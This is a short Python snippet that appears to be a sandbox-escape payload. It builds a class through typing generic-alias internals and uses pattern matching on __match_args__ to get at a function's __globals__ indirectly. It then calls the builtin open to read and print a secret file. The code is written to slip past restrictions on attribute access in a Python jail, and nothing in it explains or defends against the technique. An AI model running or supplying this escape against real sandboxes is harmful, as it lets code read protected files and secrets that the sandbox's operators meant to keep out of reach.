# An alias made by hand over the class of classes is called and makes a class with locked words.
from abc import ABC
from contextlib import ExitStack
from typing import List, Type

kinds = type(List[int])(type(ABC), (int,), inst=True)
Made = kinds("Made", (), {"__match_args__": ("__globals__",)})
Made.register(type(ExitStack.close))
match ExitStack.close:
    case Made(names):
        print(names["__builtins__"]["open"](SECRET_FILE).read())
